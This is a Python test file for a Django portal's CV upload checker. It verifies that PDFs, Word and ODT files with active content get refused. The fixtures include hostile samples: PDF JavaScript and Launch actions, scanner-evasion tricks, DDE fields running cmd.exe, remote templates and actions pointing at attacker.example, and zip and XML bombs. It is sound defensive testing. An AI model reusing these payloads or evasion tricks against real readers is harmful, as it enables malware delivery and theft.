import zlib

import pytest
from django.core.exceptions import ValidationError

from portal.core.uploads import DOCX, ODT, PDF, PrivateStorage, check_document
from tests.portal import documents


@pytest.mark.parametrize(
    "content, name, kind",
    [
        (documents.PDF, "my cv.PDF", PDF),
        (documents.docx(), "cv.docx", DOCX),
        (documents.odt(), "cv.odt", ODT),
        (documents.PDF, "cv.docx", PDF),  # the content decides, not the name
    ],
)
def test_real_documents_are_recognised_by_their_content(content, name, kind):
    assert check_document(documents.upload(content, name)) == kind


@pytest.mark.parametrize(
    "content, message",
    [
        (documents.executable(), "is not a PDF, DOCX or ODT"),
        (b"%PDF-1.7\nno trailer here", "seems damaged"),
        (documents.zipped({"readme.txt": b"hello"}), "is not a PDF, DOCX or ODT"),
        (b"PK\x03\x04 but not really a zip", "seems damaged"),
        (documents.zip_bomb(), "expands to far more than its size"),
        (b"", "is not a PDF, DOCX or ODT"),
    ],
)
def test_malicious_or_broken_files_are_refused_with_a_clear_message(content, message):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content, "cv.pdf"))
    assert message in error.value.messages[0]


def test_oversized_file_is_refused_with_the_limit(settings):
    settings.CV_MAX_UPLOAD_BYTES = 1024
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(documents.PDF + b"%" * 2000))
    assert "the limit is 1.0\xa0KB" in error.value.messages[0]


def test_private_storage_has_no_url(tmp_path):
    storage = PrivateStorage(location=tmp_path)
    name = storage.save("cv/x.pdf", documents.upload(documents.PDF))
    assert storage.exists(name)
    with pytest.raises(ValueError, match="no public URL"):
        storage.url(name)


ACTIVE = "This PDF contains active content"
MACROS = "This document contains macros or scripts"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "content",
    [
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", documents.PAGES,
                      JS_ACTION),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (x) >> >>",
                      documents.PAGES),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 3 0 R >> >>", documents.PAGES,
                      b"<< /S /GoTo /D [0 /Fit] >>"),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
                      documents.PAGES, b"<< /Names [(a.exe) 4 0 R] >>"),
        documents.pdf(documents.CATALOGUE, documents.PAGES,
                      b"<< /Type /Annot /Subtype /RichMedia >>"),
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 3 0 R >> >>",
                      documents.PAGES, documents.stream(b"<xdp:xdp/>")),
        # Names written with #xx escapes: /J#61vaScript is /JavaScript.
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", documents.PAGES,
                      b"<< /S /J#61vaScript /#4A#53 (app.alert(1)) >>"),
        # The action compressed inside an object stream (PDF 1.5).
        documents.pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>", documents.PAGES,
                      documents.object_stream(JS_ACTION)),
        # ... with an escaped name in the stream's dictionary too.
        documents.pdf(documents.CATALOGUE, documents.PAGES,
                      documents.object_stream(b"<< /S /Launch /F (x) >>").replace(
                          b"/ObjStm", b"/Obj#53tm")),
        # ... or in a first object whose header is broken (a repairing reader may use it).
        documents.pdf(documents.object_stream(JS_ACTION), documents.PAGES).replace(
            b"1 0 obj", b"1 0 xbj"),
        # An object hidden in a stream's data, which a cross-reference table can point to.
        documents.pdf(documents.CATALOGUE, documents.PAGES, documents.stream(
            b"BT ET\n9 0 obj " + JS_ACTION + b" endobj\n", compress=False)),
    ],
)  # fmt: skip
def test_pdfs_with_active_content_are_refused(content):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert ACTIVE in error.value.messages[0]


@pytest.mark.parametrize(
    "content, message",
    [
        # Object streams with other filters or predictors cannot be read: refused.
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            JS_ACTION.hex().encode(), dictionary=b"/Filter /ASCIIHexDecode", compress=False)),
         "built in a way we cannot check"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            b"<< >>", dictionary=b"/DecodeParms << /Predictor 12 /Columns 4 >>")),
         "built in a way we cannot check"),
        # Compressed twice, or through a filter given indirectly: names it could hide.
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            zlib.compress(JS_ACTION), dictionary=b"/Filter [/FlateDecode /FlateDecode]",
            compress=False)), "built in a way we cannot check"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            zlib.compress(JS_ACTION), dictionary=b"/Filter 9 0 R", compress=False)),
         "built in a way we cannot check"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, b"<< /Filter /Standard /V 2 >>",
                       trailer=b"/Encrypt 3 0 R "), "encrypted or protected by a password"),
        (documents.pdf(documents.CATALOGUE, documents.PAGES, documents.object_stream(
            b"<< >>").replace(b"x\x9c", b"x\x9cgarbage")), "seems damaged"),
    ],
)  # fmt: skip
def test_pdfs_that_cannot_be_checked_are_refused(content, message):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert message in error.value.messages[0]


def test_an_object_stream_that_inflates_without_bound_is_refused(monkeypatch):
    from portal.core.uploads import pdf

    monkeypatch.setattr(pdf, "PDF_MAX_INFLATED", 10_000)
    bomb = documents.object_stream(b"<< >> " + b" " * 50_000)
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(documents.pdf(documents.CATALOGUE, documents.PAGES, bomb)))
    assert "expands to far more than its size" in error.value.messages[0]


def test_ordinary_pdfs_pass_whatever_their_streams_hold():
    # Page content and image data are not read as names: random bytes there that happen to
    # spell /JS are not a script. An opening view (/OpenAction to a page) is no action.
    noise = bytes(range(256)) * 40 + b"/JS /AA /Launch " + bytes(range(256))
    content = documents.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [4 0 R /Fit] >>",
        documents.PAGES,
        documents.stream(noise, b"/Type /XObject /Subtype /Image"),
        documents.stream(b"BT /F1 12 Tf (Amina Uwase, nurse) Tj ET", compress=True),
        documents.object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
        documents.stream(noise, b"/Subtype /Image", compress=False),
    )
    assert check_document(documents.upload(content)) == PDF


@pytest.mark.parametrize(
    "content",
    [
        documents.docm(),
        documents.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                          "word/vbaProject.bin": b"VBA"}),
        documents.zipped({"[Content_Types].xml": b"<Types><Default Extension='bin' ContentType="
                          b"'application/vnd.ms-office.vbaProject'/></Types>",
                          "word/document.xml": b"<w:document/>", "word/macros.bin": b"VBA"}),
        documents.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                          "word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        documents.odt({"Basic/Standard/Module1.xml": b"<script:module>Shell</script:module>"}),
        documents.odt({"Scripts/python/run.py": b"import os"}),
        documents.odt(content=b'<office:document-content><office:event-listeners>'
                      b'<script:event-listener script:event-name="dom:load" xlink:href='
                      b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'),
    ],
)  # fmt: skip
def test_documents_with_macros_are_refused(content):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content, "cv.docx"))
    assert MACROS in error.value.messages[0]


@pytest.fixture
def small_limits(settings, tmp_path):
    settings.CV_MAX_UPLOAD_BYTES = settings.IMAGE_MAX_UPLOAD_BYTES = 100_000
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000  # bigger bodies go through the disk handler
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    return tmp_path


def test_an_upload_past_every_limit_is_dropped_with_its_size_and_the_form_still_read(
    rf, small_limits
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from portal.core.images import ContentImageFormField
    from portal.core.uploads import OversizedUpload

    photo = SimpleUploadedFile("photo.png", b"x" * 3_000_000, content_type="image/png")
    request = rf.post("/", {"image": photo, "title": "after the file"})
    upload = request.FILES["image"]
    assert isinstance(upload, OversizedUpload) and upload.size == 3_000_000
    assert request.POST["title"] == "after the file"
    assert list(small_limits.iterdir()) == []  # the partial temporary file is deleted
    with pytest.raises(ValidationError) as error:
        ContentImageFormField().clean(upload)
    assert "This image is 2.9\xa0MB; the limit is 97.7\xa0KB" in error.value.messages[0]


def test_an_upload_within_the_limit_is_kept_whole(rf, small_limits):
    from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

    content = documents.PDF[:9] + b"%" + b"x" * 50_000 + b"\n" + documents.PDF[9:]
    request = rf.post("/", {"cv": SimpleUploadedFile("cv.pdf", content)})
    upload = request.FILES["cv"]
    assert isinstance(upload, TemporaryUploadedFile) and upload.read() == content
    assert check_document(upload) == PDF


# What an outside review found (issue 12): ways round the scan, closed.

JS_OPEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


@pytest.mark.parametrize(
    "content",
    [
        # The reviewer's file: a script between a commented-out `stream` and `endstream`.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"%stream\n<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>\n%endstream"),
        # `stream` inside a string, `endstream` inside a later object's string.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"<< /T (x >>\nstream\n) /S /JavaScript /JS (app.alert(1)) >>",
                      b"<< /T (endstream) >>"),
        # `stream` that follows no dictionary is no stream.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"[ ] stream\n<< /S /JavaScript /JS (app.alert(1)) >>\nendstream"),
        # A stream's data ends at the first `endstream`: what follows is read.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE, documents.stream(
            b"q Q endstream endobj 9 0 obj << /S /Launch /F (cmd.exe) >>", compress=False)),
        # A comment cannot open a string that would hide what follows from the lexer.
        documents.pdf(JS_OPEN, documents.PAGES, PAGE,
                      b"% (\n<< /S /JavaScript /JS (app.alert(1)) >>\n% )"),
    ],
)  # fmt: skip
def test_pdf_scripts_hidden_from_the_scanner_are_refused(content):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert ACTIVE in error.value.messages[0]


@pytest.mark.parametrize(
    "action",
    [b"GoToR /F (http://attacker.example/x.pdf) /D [0 /Fit]", b"Thread /D 5 0 R",
     b"Rendition /R 5 0 R", b"Launch /F (calc.exe)", b"ImportData /F (x.fdf)",
     b"SubmitForm /F (http://attacker.example/)", b"GoToE /T << /R /C /N (x) >>"],
)  # fmt: skip
def test_pdf_actions_that_open_other_files_or_media_are_refused(action):
    content = documents.pdf(JS_OPEN, documents.PAGES, PAGE, b"<< /S /%s >>" % action)
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content))
    assert ACTIVE in error.value.messages[0]


def test_pdfs_with_comments_strings_and_crlf_streams_still_pass():
    noise = bytes(range(256)) * 8 + b"/JS /Launch (unbalanced % stream\n"
    content = documents.pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> % opening view (\n"
        b">>" + b"%" * 100_000 + b" no stream here",  # scanned in linear time
        documents.PAGES,
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [5 0 R] >>",
        b"<< /Length %d /Subtype /Image >>\r\nstream\r\n%s\r\nendstream" % (len(noise), noise),
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/?a=1%20b) >>"
        b" /Contents (100% sure \\) that << >> stream\n endstream are text) /T <FEFF00>>>",
        documents.stream(b"BT (Amina, nurse) Tj ET", b"/Type /XObject"),
    )
    assert check_document(documents.upload(content)) == PDF


UTF16_CONTENT_TYPES = documents.CONTENT_TYPES.replace(b'"UTF-8"', b'"UTF-16"').replace(
    b"</Types>",
    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
)
VBA_RELATIONSHIP = documents.relationships(
    b'<Relationship Id="rV" Type="http://schemas.microsoft.com/office/2006/relationships/'
    b'vba&#80;roject" Target="macros.bin"/>'
)
SETTINGS = (
    b'<?xml version="1.0"?><w:settings %s xmlns:r="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships"><w:attachedTemplate r:id="rT"/></w:settings>' % documents.W
)


def remote(kind: bytes, target: bytes) -> bytes:
    return documents.relationships(
        b'<Relationship Id="rT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/%s" Target="%s" TargetMode="External"/>' % (kind, target)
    )


def field(instruction: bytes) -> bytes:
    return (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="pre'
        b'serve">%s</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        % instruction
    )


LINKED = "This document fetches content from elsewhere or runs commands"


@pytest.mark.parametrize(
    "content, message",
    [
        # Macro content types written in UTF-16 or with character references.
        (documents.zipped({"[Content_Types].xml": UTF16_CONTENT_TYPES.decode().encode("utf-16"),
                           "word/document.xml": b"<w:document/>", "word/macros.bin": b"VBA"}),
         MACROS),
        (documents.zipped({
            "[Content_Types].xml": documents.CONTENT_TYPES.replace(
                b"document.main+xml", b"document.macro&#69;nabled.main+xml"),
            "word/document.xml": b"<w:document/>"}), MACROS),
        # A vbaProject relationship, whatever the part is called.
        (documents.docx(parts={"word/_rels/document.xml.rels": VBA_RELATIONSHIP,
                               "word/macros.bin": b"\xd0\xcf\x11\xe0"}), MACROS),
        # Templates, objects, frames and sub-documents fetched from elsewhere on opening.
        (documents.docx(parts={"word/settings.xml": SETTINGS,
                               "word/_rels/settings.xml.rels": remote(
            b"attachedTemplate", b"http://attacker.example/t.dotm")}), LINKED),
        (documents.docx(parts={"word/_rels/settings.xml.rels": remote(
            b"attachedTemplate", b"\\\\attacker.example\\share\\t.dotm")}), LINKED),
        (documents.docx(parts={"word/_rels/document.xml.rels": remote(
            b"oleObject", b"ftp://attacker.example/o.bin")}), LINKED),
        (documents.docx(parts={"word/_rels/webSettings.xml.rels": remote(
            b"frame", b"HTTPS://attacker.example/")}), LINKED),
        (documents.docx(parts={"word/_rels/document.xml.rels": remote(
            b"subDocument", b"file://attacker.example/share/s.docx")}), LINKED),
        # Fields that run a program or read a file, in the body, a header or a footer.
        (documents.docx(field(b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
         LINKED),
        (documents.docx(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                        b'DD</w:instrText></w:r><w:r><w:instrText>E cmd "/c calc"</w:instrText>'
                        b'</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), LINKED),
        (documents.docx(parts={"word/header1.xml": b'<w:hdr %s><w:p><w:fldSimple w:instr="INCLUDE'
                        b'TEXT C:\\\\secret.txt"/></w:p></w:hdr>' % documents.W}), LINKED),
        (documents.docx(parts={"word/footer1.xml": b"<w:ftr %s>%s</w:ftr>" % (documents.W, field(
            b'INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d'))}), LINKED),
        (documents.docx(field(b'INCLUDEPICTURE "http://attacker.example/a.png"')), LINKED),
        # Marks in odd places are still read, not a server error.
        (documents.docx(b'<w:p><w:r><w:instrText><w:fldChar w:fldCharType="end"/>DDE cmd'
                        b'</w:instrText></w:r></w:p>'), LINKED),
        # Entity declarations (XML bombs) are not read at all.
        (documents.docx(parts={"word/_rels/document.xml.rels": b'<!DOCTYPE r [<!ENTITY a "aa">]>'
                        b"<Relationships>&a;</Relationships>"}), "seems damaged"),
        # An ODT event bound to a macro, in UTF-16 and with a renamed prefix.
        (documents.odt(content='<?xml version="1.0" encoding="UTF-16"?><office:document-content '
                       'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:s='
                       '"urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://'
                       'www.w3.org/1999/xlink"><s:event-listener xlink:href="vnd.sun.star.scrip'
                       't:Standard.Module1.Main?language=Basic"/></office:document-content>'
                       .encode("utf-16")), MACROS),
    ],
)  # fmt: skip
def test_office_documents_with_hidden_macros_or_remote_content_are_refused(content, message):
    with pytest.raises(ValidationError) as error:
        check_document(documents.upload(content, "cv.docx"))
    assert message in error.value.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        # Word's own local template, page numbers, a linked local picture, a hyperlink.
        documents.docx(
            field(b" PAGE \\* MERGEFORMAT ") + field(b'INCLUDEPICTURE "C:\\\\photos\\\\me.png"'),
            parts={
                "word/settings.xml": SETTINGS,
                "word/_rels/settings.xml.rels": remote(
                    b"attachedTemplate",
                    b"file:///C:/Users/amina/AppData/Roaming/Microsoft/Templates/Normal.dotm"),
                "word/_rels/document.xml.rels": remote(b"hyperlink", b"https://example.org/a"),
            },
        ),
        documents.docx(parts={"word/footer1.xml": b'<w:ftr %s><w:p><w:fldSimple w:instr=" NUM'
                       b'PAGES "/></w:p></w:ftr>' % documents.W}),
    ],
)  # fmt: skip
def test_ordinary_word_documents_still_pass(content):
    assert check_document(documents.upload(content, "cv.docx")) == DOCX


def test_an_ordinary_libreoffice_document_still_passes():
    # LibreOffice writes Configurations2/accelerator/current.xml empty; links are fine.
    content = documents.odt(
        {"Configurations2/accelerator/current.xml": b"", "styles.xml": b"<styles/>"},
        content=b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office='
        b'"urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:'
        b'opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><text:a '
        b'xlink:href="https://example.org/amina">Amina</text:a></office:document-content>',
    )
    assert check_document(documents.upload(content, "cv.odt")) == ODT


def test_private_files_are_readable_by_the_app_only(private_dir):
    import os
    import stat

    from portal.core.uploads import private_storage

    old = os.umask(0o022)
    try:
        name = private_storage().save("cv/2026/x.pdf", documents.upload(documents.PDF))
    finally:
        os.umask(old)
    path = private_storage().path(name)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(path)).st_mode) == 0o700


def test_a_remote_template_is_refused_in_the_visitors_language():
    from django.utils import translation

    content = documents.docx(
        parts={"word/_rels/settings.xml.rels": remote(b"attachedTemplate", b"https://x.example/t")}
    )
    with translation.override("fr"):
        with pytest.raises(ValidationError) as error:
            check_document(documents.upload(content, "cv.docx"))
        assert "Ce document va chercher du contenu ailleurs" in error.value.messages[0]


def test_the_paths_settings_and_migrations_name_still_resolve_from_the_package():
    from django.utils.module_loading import import_string

    from portal.core.uploads.handler import LimitedUploadHandler
    from portal.core.uploads.storage import PrivateStorage, private_storage

    assert import_string("portal.core.uploads.PrivateStorage") is PrivateStorage
    assert import_string("portal.core.uploads.private_storage") is private_storage
    assert import_string("portal.core.uploads.LimitedUploadHandler") is LimitedUploadHandler
